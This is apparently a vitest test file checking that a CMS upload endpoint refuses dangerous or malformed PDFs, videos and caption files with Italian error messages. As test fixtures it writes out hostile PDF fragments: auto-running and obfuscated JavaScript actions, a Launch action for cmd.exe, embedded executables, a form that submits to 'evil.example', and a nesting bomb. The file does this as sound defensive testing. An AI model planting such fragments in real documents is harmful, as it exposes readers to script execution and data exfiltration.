// SPDX-License-Identifier: AGPL-3.0-or-later
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { MAX_CAPTIONS_BYTES, MAX_PDF_BYTES } from '../../media/limits.ts';
import { addPerson, reasons, type TestPerson } from '../auth/people.ts';
import { startCms, type TestCms } from '../harness.ts';
import { demoFile, mp4, onePage, pdf, uploadFile, vtt } from './files.ts';
import { jpeg } from './pictures.ts';
import { tooHeavy } from '../../media/too-heavy.ts';

let cms: TestCms;
let reviewer: TestPerson;
beforeAll(async () => {
  cms = await startCms();
  reviewer = await addPerson(cms, { role: 'reviewer', email: 'files@example.org' });
});
afterAll(() => cms.stop());

async function refusal(bytes: Uint8Array): Promise<string> {
  const answer = await uploadFile(cms, reviewer.cookie, bytes);
  expect(answer.status).toBe(400);
  return reasons(answer);
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

describe('U01: a PDF that acts by itself is refused with the reason', () => {
  test.each([
    ['a script when it opens', { catalogue: `/OpenAction${SCRIPT}` }],
    [
      'a script that is named',
      { catalogue: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', objects: [SCRIPT] },
    ],
    ['a script under another spelling', { catalogue: '/OpenAction<</S/Java#53cript/J#53(x)>>' }],
    ['a script of a page', { page: `/AA<</O${SCRIPT}>>` }],
    [
      'a script of a field',
      {
        page: '/Annots[4 0 R]',
        objects: [`<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</K${SCRIPT}>>>>`],
      },
    ],
    [
      'a script after a harmless action',
      { catalogue: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${SCRIPT}>>` },
    ],
    ['a script that nothing refers to', { objects: [SCRIPT] }],
    [
      'a program to start',
      {
        page: '/Annots[4 0 R]',
        objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>'],
      },
    ],
    [
      'a program to start from its outline',
      {
        catalogue: '/Outlines 4 0 R',
        objects: [
          '<</First 5 0 R/Last 5 0 R/Count 1>>',
          '<</Title(x)/Parent 4 0 R/A<</S/Launch/F(a)>>>>',
        ],
      },
    ],
    ['a form of its own language', { catalogue: '/AcroForm<</Fields[]/XFA(x)>>' }],
    [
      'a link that is a script',
      {
        page: '/Annots[4 0 R]',
        objects: [
          '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(java\\nscript:alert\\(1\\))>>>>',
        ],
      },
    ],
  ])('%s', async (_what, more) => {
    expect(await refusal(onePage(more))).toContain('script o un’azione che parte da sola');
  });
});

test.each([
  [
    'a file inside',
    {
      catalogue:
        '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>',
      objects: ['<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream'],
    },
    'contiene altri file',
  ],
  [
    'a file on a page',
    { page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>]' },
    'contiene altri file',
  ],
  [
    'a film',
    { page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' },
    'contiene altri file',
  ],
  [
    'a form that sends',
    {
      page: '/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]',
    },
    'manda i dati altrove',
  ],
])('U01: a PDF with %s is refused with the reason', async (_what, more, reason) => {
  expect(await refusal(onePage(more))).toContain(reason);
});

const ENCRYPT = `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>`;
const CUE = '00:01.000 --> 00:02.000\nCiao.';

async function matroska(): Promise<Buffer> {
  const video = await demoFile('webm');
  // The same length of name, so that nothing moves.
  return Buffer.from(video.toString('latin1').replace('webm', 'mkvx'), 'latin1');
}

test.each([
  [
    'a locked PDF',
    () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>'], ENCRYPT),
    'protetto da una password',
  ],
  ['half a PDF', async () => (await demoFile('pdf')).subarray(0, 6000), 'rovinato o incompleto'],
  [
    'a PDF without pages',
    () => pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
    'rovinato o incompleto',
  ],
  [
    'a PDF whose table is wrong',
    () =>
      Buffer.from(onePage().toString('latin1').replace('startxref\n', 'startxref\n9'), 'latin1'),
    'rovinato o incompleto',
  ],
  [
    'a PDF with an archive behind it',
    () => Buffer.concat([onePage(), Buffer.from('PK\x03\x04')]),
    'rovinato o incompleto',
  ],
  [
    'a PDF that begins with something else',
    () => Buffer.concat([Buffer.from('<html>'), onePage()]),
    'Non si capisce',
  ],
  [
    'a PDF above the limit',
    () => Buffer.concat([onePage(), Buffer.alloc(MAX_PDF_BYTES)]),
    'al massimo 15 MB',
  ],
  [
    'a PDF with values within values, without an end',
    () => onePage({ catalogue: `/X${'['.repeat(5_000_000)}` }),
    'rovinato o incompleto',
  ],
  [
    'a text document',
    () =>
      Buffer.from(
        'PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x27\x00\x00\x00\x27\x00\x00\x00\x08\x00\x00\x00mimetypeapplication/vnd.oasis.opendocument.text',
        'latin1',
      ),
    'Esporta il documento come PDF',
  ],
  ['a picture', jpeg, 'raccolta «Immagini»'],
  ['HTML', () => Buffer.from('<!doctype html><script>x</script>'), 'Non si capisce'],
  ['nothing', () => Buffer.alloc(0), 'Manca il file'],
  [
    'half a WebM',
    async () => (await demoFile('webm')).subarray(0, 60_000),
    'rovinato o incompleto',
  ],
  ['half an MP4', async () => (await mp4()).subarray(0, 60_000), 'rovinato o incompleto'],
  [
    'only the first bytes of a video',
    async () => (await demoFile('webm')).subarray(0, 100),
    'video',
  ],
  ['a video of another kind under the name of WebM', matroska, 'video'],
  ['captions without times', () => vtt('Ciao.'), 'riga 3: mancano i tempi'],
  [
    'captions with the times of another format',
    () => vtt('00:01,000 --> 00:02,000\nCiao.'),
    'riga 3: mancano i tempi',
  ],
  [
    'captions without words',
    () => vtt('00:01.000 --> 00:02.000'),
    'riga 3: sotto i tempi non c’è testo',
  ],
  [
    'a caption that ends before it begins',
    () => vtt('00:02.000 --> 00:01.000\nCiao.'),
    'riga 3: la fine viene prima',
  ],
  [
    'captions that are not in order',
    () => vtt(`00:09.000 --> 00:10.000\nDopo.\n\n${CUE}`),
    'riga 6: comincia prima',
  ],
  ['captions without a caption', () => vtt('NOTE niente'), 'nessun sottotitolo'],
  ['captions that are not UTF-8', () => Buffer.concat([vtt(CUE), Buffer.from([0xe8])]), 'UTF-8'],
  [
    'captions above the limit',
    () => vtt(`${CUE}\n`.repeat(MAX_CAPTIONS_BYTES / 20)),
    'al massimo 1 MB',
  ],
  [
    'SRT as Windows writes it',
    () => Buffer.from('\uFEFF1\r\n00:00:01,000 --> 00:00:02,000\r\nCiao.\r\n'),
    'Salvali come WebVTT',
  ],
  ['SRT', () => Buffer.from('1\n00:00:01,000 --> 00:00:02,000\nCiao.\n'), 'Salvali come WebVTT'],
])('U01: %s is refused with the reason', async (_what, make, reason) => {
  expect(await refusal(await make())).toContain(reason);
});

test.each([
  ['files', 'lezione.mp4', 2 ** 31, 'al massimo 30 MB, perché si guarda dal telefono'],
  ['files', 'Scheda.PDF', MAX_PDF_BYTES + 1, 'Il PDF pesa troppo: al massimo 15 MB'],
  ['files', 'italiano.vtt', MAX_CAPTIONS_BYTES + 1, 'I sottotitoli pesano troppo'],
  ['media', 'foto.jpg', 2 ** 31, 'al massimo 10 MB'],
  ['files', 'Scheda.pdf', MAX_PDF_BYTES, undefined],
  ['users', 'foto.jpg', 2 ** 31, undefined],
])(
  'U01: to %s, %s with %i bytes is not sent when it is too heavy, and the desk says why',
  (collection, name, size, why) => {
    const said = tooHeavy(collection, { name, size })?.it;
    if (why === undefined) expect(said).toBeUndefined();
    else expect(said).toContain(why);
  },
);

test('who reads the desk in English is refused in English', async () => {
  const answer = await uploadFile(
    cms,
    `${reviewer.cookie}; portico-lng=en`,
    onePage({ catalogue: `/OpenAction${SCRIPT}` }),
  );
  expect(await reasons(answer)).toContain('script or an action that starts by itself');
});

test('W03: a form far above the limit is not read to its end, and its sender is told how much may come', async () => {
  const form = new FormData();
  form.set('file', new File(['x'], 'x'));
  const headers = { Cookie: reviewer.cookie, 'Content-Length': String(80 * 1024 * 1024) };
  const answer = await cms.fetch('/api/files', { method: 'POST', headers, body: form });
  expect(answer.status).toBe(413);
  expect(await reasons(answer)).toContain('al massimo 30 MB');
});

test('U01: without a session nothing is uploaded', async () => {
  expect((await uploadFile(cms, '', onePage())).status).toBe(401);
});

test('U01: nothing that was refused is on the disk or in the database', async () => {
  const { totalDocs } = await cms.payload.count({ collection: 'files' });
  expect(totalDocs).toBe(0);
  const files = await readdir(path.join(cms.dataDir, 'blobs')).catch(() => []);
  expect(files).toEqual([]);
});
